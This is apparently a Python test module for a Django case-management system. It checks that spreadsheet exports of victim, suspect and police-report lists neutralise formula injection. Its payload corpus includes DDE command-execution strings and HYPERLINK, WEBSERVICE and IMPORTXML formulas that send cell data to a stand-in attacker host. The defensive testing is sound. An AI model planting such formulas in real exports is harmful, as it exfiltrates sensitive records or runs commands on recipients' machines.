"""Words that a spreadsheet would calculate, put wherever words can leave (S14)."""

import csv
import io
import itertools
import zipfile
from collections.abc import Iterator
from datetime import timedelta

import openpyxl
from django.core.cache import cache

from agencies import clock
from agencies.lookup import codes, directory
from agencies.models import Agency, Code, Export, Post, Region, User
from agencies.spreadsheets import Table, csv_of, xlsx_of
from cases.models import PoliceReport
from tests.cases.examples import GIRL, LP, PIMP, WOMAN, a_case
from tests.cases.exported import SAID, taken
from tests.people import browser_of, person

BEGINS = (
    "=",
    "+",
    "-",
    "@",
    "\t=",
    "\r=",
    "\n=",
    " =",
    "＝",
    "＋",
    "－",
    "＠",
    "'=",
    '"=',
)
CALLS = (
    "1+1",
    "SUM(A1:A9)*cmd|' /C calc'!A0",
    'HYPERLINK("http://penyerang.example/?"&A2,"klik")',
    'WEBSERVICE("http://penyerang.example")',
    'IMPORTXML(CONCAT("http://penyerang.example?",A2),"//a")',
    "DDE('cmd','/C calc','x')",
)
INSIDE = (
    "Polres;=1+1",
    "Polres,=1+1",
    "Polres\t=1+1",
    "Polres\n=1+1",
    'Polres",=1+1,"',
    'Polres";=1+1;"',
    "Polres|@SUM(A1)",
    "Polres'; -1",
    "x\u2028=1+1",
    "\ufeff=1+1",
    "\x00=1+1",
)
CORPUS = (*(f"{b}{call}" for b, call in itertools.product(BEGINS, CALLS)), *INSIDE)
SIGNS, STARTS = tuple("=+-@＝＋－＠"), ("\t", "\r", "\n")
SEPARATORS = ",;\t|"
STORABLE = tuple(text for text in CORPUS if "\x00" not in text)


def formulas_in_xlsx(data: bytes) -> tuple[int, int]:
    """Cells of text, and how many of all cells are calculated."""
    texts = formulas = 0
    for sheet in openpyxl.load_workbook(io.BytesIO(data)).worksheets:
        for cell in itertools.chain.from_iterable(sheet.iter_rows()):
            texts += cell.data_type == "s"
            formulas += cell.data_type == "f" or cell.hyperlink is not None
    with zipfile.ZipFile(io.BytesIO(data)) as parts:
        for name in parts.namelist():
            inside = parts.read(name)
            formulas += b"<f>" in inside or b"<f " in inside
            formulas += "external" in name or "vba" in name.lower()
    return texts, formulas


def formulas_in_csv(data: bytes) -> tuple[int, int]:
    """Cells, and how many begin a formula in any program, however it splits lines."""
    text = data.decode("utf-8-sig")
    cells = list(csv.reader(io.StringIO(text, newline="")))
    found = [cell for line in cells for cell in line]
    read = [*found, *split_blindly(text)]
    formulas = sum(cell.lstrip(' "\t\r\n').startswith(SIGNS) for cell in read)
    return len(found), formulas + sum(cell.startswith(STARTS) for cell in found)


def split_blindly(text: str) -> Iterator[str]:
    """As programs do that split at another sign, or know no quotes."""
    for separator in SEPARATORS:
        yield from itertools.chain.from_iterable(
            csv.reader(io.StringIO(text, newline=""), delimiter=separator)
        )
        for line in text.splitlines():
            yield from line.split(separator)


def table_of(text: str) -> Table:
    """A table that has the words in every place of it."""
    return Table(text, [text, text], [[text, 1], [None, text]], [text], [(text, text)])


def formulas_in_table(text: str) -> tuple[int, int]:
    table = table_of(text)
    cells, formulas = formulas_in_xlsx(xlsx_of(table))
    more, others = formulas_in_csv(csv_of(table))
    return cells + more, formulas + others


def a_register() -> None:
    a_case(
        person("sari"), victims=(GIRL, WOMAN), suspects=(PIMP,), police_reports=(LP,)
    )


def poison(text: str) -> None:
    """Every column of words that a list, its marks or its manifest can show."""
    PoliceReport.objects.update(number=text[:120])
    User.objects.filter(username="sari").update(full_name=text[:120])
    Post.objects.filter(pk=person("sari").assignment.post_id).update(title=text[:120])
    Agency.objects.update(name=text[:120])
    Region.objects.filter(code__startswith="64.71").update(name=text[:100])
    Code.objects.update(label_id=text[:120], label_en=text[:120])
    codes.forget()
    directory.forget()
    cache.clear()


def formulas_in_lists(text: str) -> tuple[int, int]:
    """All four lists, both forms, the words in every column and in the note."""
    poison(text)
    cells = formulas = 0
    note = SAID["note"] if len(text.strip()) < 5 else text.replace("\n", " ")[:120]
    # A day has its limit of exports: each text has a day of its own.
    with clock.set_to(clock.now() + timedelta(days=Export.objects.count())):
        client = browser_of("sari")
        for name in ("cases", "victims", "suspects", "police_reports"):
            for form, look in (("xlsx", formulas_in_xlsx), ("csv", formulas_in_csv)):
                data, _manifest = taken(client, name, format=form, note=note)
                found = look(data)
                cells, formulas = cells + found[0], formulas + found[1]
    return cells, formulas
